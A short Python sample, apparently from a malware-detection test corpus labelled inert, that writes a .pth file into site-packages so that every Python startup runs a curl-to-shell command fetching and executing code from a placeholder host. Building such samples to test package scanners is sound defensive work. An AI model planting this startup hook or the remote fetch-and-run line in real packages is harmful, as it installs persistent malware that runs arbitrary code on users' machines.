# pkgguard corpus 310 (startup-hook), modelled on [startup-hooks]; inert, never run.
import os
import sysconfig

target = os.path.join(sysconfig.get_path("purelib"), "zz_pkg_init.pth")
with open(target, "w") as f:
    f.write("import os; os.system('curl -s https://cdn.example/p | sh')\n")
